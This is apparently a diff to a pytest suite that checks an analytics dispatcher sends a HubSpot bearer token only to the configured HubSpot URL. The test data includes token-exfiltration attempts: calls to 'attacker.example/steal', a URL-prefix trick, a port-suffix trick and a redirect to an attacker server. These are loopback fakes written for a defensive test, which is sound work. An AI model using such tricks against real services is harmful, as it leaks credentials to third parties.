@@ -4,6 +4,8 @@ happen, stop, wait as told and never resend a success."""
 from __future__ import annotations
 
 import json
+import random
+from collections.abc import Iterator
 from typing import Any
 
 import pytest
@@ -213,26 +215,56 @@ def test_send_refuses_what_is_not_a_call(junk: Any, caplog: pytest.LogCaptureFix
     assert failures(caplog)[0].startswith("Not a call, nothing sent")
 
 
+@pytest.fixture
+def vendor_and_attacker() -> Iterator[tuple[FakeVendor, FakeVendor]]:
+    """Two real loopback fakes: the vendor, and an attacker whose port is the vendor's with
+    one more digit, so that `vendor.url + "7/..."` reaches the attacker (the prefix trick)."""
+    for port in random.sample(range(1025, 6553), 40):
+        try:
+            attacker = FakeVendor(port * 10 + 7)
+        except OSError:
+            continue
+        try:
+            vendor = FakeVendor(port)
+        except OSError:
+            attacker.close()
+            continue
+        yield vendor, attacker
+        assert dispatch.flush(timeout=30)
+        vendor.close()
+        attacker.close()
+        return
+    pytest.fail("no free pair of loopback ports")
+
+
+def token_call(url: str, bearer: str = "HUBSPOT_ACCESS_TOKEN") -> dict[str, Any]:
+    return Call("HubSpot", "contact update", "PATCH", url, bearer=bearer).as_dict()
+
+
 def test_the_token_is_only_ever_sent_to_the_hubspot_api_url(
-    server_settings: Any, vendor: FakeVendor, caplog: pytest.LogCaptureFixture
+    settings: Any,
+    vendor_and_attacker: tuple[FakeVendor, FakeVendor],
+    caplog: pytest.LogCaptureFixture,
 ) -> None:
-    other = Call(
-        "HubSpot",
-        "contact update",
-        "PATCH",
-        "https://attacker.example/steal",
-        bearer="HUBSPOT_ACCESS_TOKEN",
-    )
-    prefix_trick = Call(
-        "HubSpot",
-        "contact update",
-        "PATCH",
-        vendor.url + ".attacker.example/x",
-        bearer="HUBSPOT_ACCESS_TOKEN",
-    )
-    other_secret = Call("HubSpot", "x", "PATCH", vendor.url + "/crm/x", bearer="SECRET_KEY")
-    for call in (other, prefix_trick, other_secret):
-        assert send(call.as_dict()) is False
-    assert vendor.received == []
-    assert len(failures(caplog)) == 3
+    vendor, attacker = vendor_and_attacker
+    settings.ANALYTICS_IDS = {**settings.ANALYTICS_IDS, "HUBSPOT_ACCESS_TOKEN": TOKEN}
+    settings.ANALYTICS_CONFIG = {
+        "SERVER": {"RETRIES": 0, "HUBSPOT_API_URL": vendor.url, "KISSMETRICS_URL": attacker.url}
+    }
+    # The attacker is reachable: a call without the token gets there.
+    assert send(Call("Kissmetrics", "event", "GET", f"{attacker.url}/e").as_dict()) is True
+    assert attacker.received[0].path == "/e"
+    vendor.answer(Answer(307, {"Location": f"{attacker.url}/followed"}))
+    attempts = [
+        token_call(f"{attacker.url}/crm/v3/objects/contacts/x"),  # another configured URL
+        token_call(f"{vendor.url}7/crm/v3/objects/contacts/x"),  # the prefix trick
+        token_call(f"{attacker.url}/crm/x", bearer="SECRET_KEY"),  # another secret
+        token_call(f"{vendor.url}/crm/v3/objects/contacts/x"),  # the vendor redirects
+    ]
+    results = [send(call) for call in attempts]
+    assert [r.headers.get("authorization") for r in attacker.received] == [None]
+    assert len(attacker.received) == 1  # only the call without a token
+    assert results == [False] * 4
+    assert [r.headers["authorization"] for r in vendor.received] == [f"Bearer {TOKEN}"]
+    assert len(failures(caplog)) == 4
     assert TOKEN not in caplog.text
